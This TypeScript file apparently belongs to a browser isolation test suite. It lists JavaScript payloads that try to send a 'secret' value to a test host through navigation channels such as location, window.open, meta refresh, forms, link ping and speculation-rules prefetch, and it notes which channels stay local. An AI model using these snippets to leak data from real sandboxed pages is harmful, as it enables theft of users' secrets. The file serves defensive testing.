import type { Payload } from '../payload.ts';
import { aDocument, onlyHere, sameText, soon } from './sameText.ts';

/** Leaving for an address, or having the person leave for it. */
export const navigation: readonly Payload[] = [
	sameText(
		'location-href',
		'location',
		({ http }) => `globalThis.location.href = '${http}x.html?' + secret; await ${soon}`
	),
	sameText(
		'location-assign',
		'location',
		({ http }) => `globalThis.location.assign('${http}x.html?' + secret); await ${soon}`
	),
	sameText(
		'location-replace',
		'location',
		({ http }) => `globalThis.location.replace('${http}x.html?' + secret); await ${soon}`
	),
	sameText(
		'navigation-api',
		'navigation',
		({ http }) => `globalThis.navigation.navigate('${http}x.html?' + secret); await ${soon}`,
		{ without: ['firefox'] }
	),
	sameText(
		'window-open',
		'window.open',
		({ http }) => `globalThis.open('${http}x.html?' + secret, '_self'); await ${soon}`
	),
	sameText(
		'top-location',
		'top.location',
		({ http }) =>
			`for (const window of [globalThis.parent, globalThis.opener, globalThis.top, globalThis.self]) try { window.location = '${http}x.html?' + secret; } catch {}\nawait ${soon}`
	),
	sameText(
		'document-location',
		'document.location',
		({ http }) => `${aDocument}\ndoc.location = '${http}x.html?' + secret; await ${soon}`
	),
	sameText(
		'meta-refresh',
		'meta refresh',
		({ http }) =>
			`${aDocument}\nconst meta = doc.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0; url=${http}x.html?' + secret;\ndoc.head.append(meta); await ${soon}`
	),
	sameText(
		'form-submit',
		'form',
		({ http }) =>
			`${aDocument}\nconst form = doc.createElement('form'); form.action = '${http}x.html'; form.method = 'post';\nform.innerHTML = '<input name="x" value="' + secret + '">'; doc.body.append(form); form.submit(); await ${soon}`
	),
	sameText(
		'form-action',
		'formaction',
		({ http }) =>
			`${aDocument}\nconst form = doc.createElement('form'); form.innerHTML = '<button formaction="${http}x.html?' + secret + '">x</button>';\ndoc.body.append(form); form.querySelector('button').click(); await ${soon}`
	),
	sameText(
		'link-click',
		'a href',
		({ http }) =>
			`${aDocument}\nconst link = doc.createElement('a'); link.href = '${http}x.html?' + secret; doc.body.append(link); link.click(); await ${soon}`
	),
	sameText(
		'link-ping',
		'ping',
		({ http }) =>
			`${aDocument}\nconst link = doc.createElement('a'); link.href = '#'; link.ping = '${http}?' + secret; doc.body.append(link); link.click(); await ${soon}`,
		{ without: ['firefox'] }
	),
	sameText(
		'link-download',
		'download',
		({ http }) =>
			`${aDocument}\nconst link = doc.createElement('a'); link.href = '${http}x.csv?' + secret; link.download = secret; doc.body.append(link); link.click(); await ${soon}`
	),
	onlyHere('speculation-rules', 'speculation rules', {
		script: ({ http }) =>
			`${aDocument}\nconst rules = doc.createElement('script'); rules.type = 'speculationrules';\nrules.textContent = JSON.stringify({ prefetch: [{ urls: ['${http}x.html?' + secret], eagerness: 'immediate' }] });\ndoc.head.append(rules); await ${soon}`,
		why: 'is a hint: a browser that has other work drops it, in any page'
	}),
	onlyHere('history-state', 'history', {
		script: () => `globalThis.history.pushState(secret, secret, '?' + secret)`,
		why: 'changes its own page’s address alone; the app’s is read for the secret'
	}),
	onlyHere('title', 'document.title', {
		script: () => `${aDocument}\ndoc.title = secret; globalThis.name = secret`,
		why: 'has no address'
	}),
	onlyHere('reload', 'location.reload', {
		script: () => `globalThis.location.reload()`,
		why: 'asks its own server alone, for what it asked before'
	})
];
